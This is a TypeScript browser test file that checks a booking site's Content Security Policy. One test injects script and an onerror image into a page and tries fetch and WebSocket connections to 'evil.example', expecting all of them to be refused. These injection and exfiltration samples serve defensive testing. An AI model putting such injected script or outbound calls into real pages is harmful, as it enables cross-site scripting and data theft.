/** Every page in a browser that obeys its policy: nothing a page does may be refused by it. */
import type { Browser, Page } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { seedDemo } from '../../src/demo/demo.ts';
import { node } from '../channels/support.ts';
import { startTestHubs } from '../support/hub.ts';
import { isThere, launch, loaded, openRow, signUp } from './browser.ts';

describe.skipIf(!isThere)('the policy of the pages', async () => {
  const hubs = await startTestHubs(1);
  const hub = node(hubs);
  const url = hub.url.replace('127.0.0.1', 'localhost');
  let browser: Browser;
  const violations: string[] = [];

  beforeAll(async () => {
    expect(await seedDemo(hub.engine.db, hub.engine.accounts)).toBe(true);
    browser = await launch();
  }, 120_000);
  afterAll(() => browser?.close());

  async function open(path: string): Promise<Page> {
    const page = await (await browser.newContext()).newPage();
    await page.exposeFunction('noteViolation', (text: string) => void violations.push(`${path}: ${text}`));
    await page.addInitScript(() => {
      document.addEventListener('securitypolicyviolation', (event) => {
        const { noteViolation } = globalThis as unknown as { noteViolation(text: string): void };
        noteViolation(`${event.violatedDirective} ${event.blockedURI} ${event.sample}`);
      });
    });
    page.on('console', (line) => {
      if (/Content.Security.Policy|Permissions.Policy|Refused to/i.test(line.text()))
        violations.push(line.text());
    });
    await page.goto(url + path);
    return page;
  }

  test.each([
    '/',
    '/bookings',
    '/waitlist',
    '/analytics',
    '/kiosk',
    '/screens',
    '/docs/http',
    '/docs/sockets',
    '/nothing',
    '/api/v1/events',
  ])(
    '[FACE-4] %s does nothing that its own policy refuses',
    async (path) => {
      const page = await open(path);
      await page.waitForLoadState('networkidle');
      expect(violations).toEqual([]);
      await page.close();
    },
    60_000,
  );

  test('[FACE-4] nor does the page of an event, from the socket to a booking', async () => {
    const [row] = await hubs.sql<{ id: string }>("select id from events where title like 'Volleyball%'");
    const page = await open(`/events/${row?.id}`);
    await loaded(page);
    await signUp(page);
    await openRow(page);
    await page.locator('[data-seat="0"]').click();
    await page.locator('[data-act=confirm]').click();
    await page.locator('#booked').waitFor();
    expect(violations).toEqual([]);
    await page.close();
  }, 90_000);

  test('[FACE-4] what somebody smuggles into a page does not run, and sends nothing away', async () => {
    const page = await open('/');
    await page.evaluate(() => {
      const script = document.createElement('script');
      script.textContent = 'globalThis.smuggled = true';
      document.body.append(script);
      const picture = document.createElement('img');
      picture.setAttribute('onerror', 'globalThis.smuggled = true');
      picture.src = 'https://evil.example/x.png';
      document.body.append(picture);
    });
    const sent = await page.evaluate(() =>
      Promise.all([
        fetch('https://evil.example/').then(
          () => 'sent',
          () => 'refused',
        ),
        new Promise((resolve) => {
          const socket = new WebSocket('wss://evil.example/');
          socket.onopen = () => resolve('sent');
          socket.onerror = () => resolve('refused');
        }).catch(() => 'refused'),
      ]),
    );
    expect(sent).toEqual(['refused', 'refused']);
    expect(await page.evaluate(() => 'smuggled' in globalThis)).toBe(false);
    expect(violations.some((each) => each.includes('connect-src'))).toBe(true);
    expect(violations.some((each) => each.includes('script-src'))).toBe(true);
    violations.length = 0;
    await page.close();
  }, 60_000);

  test('[FACE-4] no other page shows one of ours in a frame', async () => {
    const page = await open('/');
    const framed = await page.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const frame = document.createElement('iframe');
          frame.src = '/docs/http';
          frame.onload = () => resolve(frame.contentDocument?.title ?? 'nothing');
          document.body.append(frame);
        }),
    );
    expect(framed).toBe('nothing');
    violations.length = 0;
    await page.close();
  }, 60_000);
});
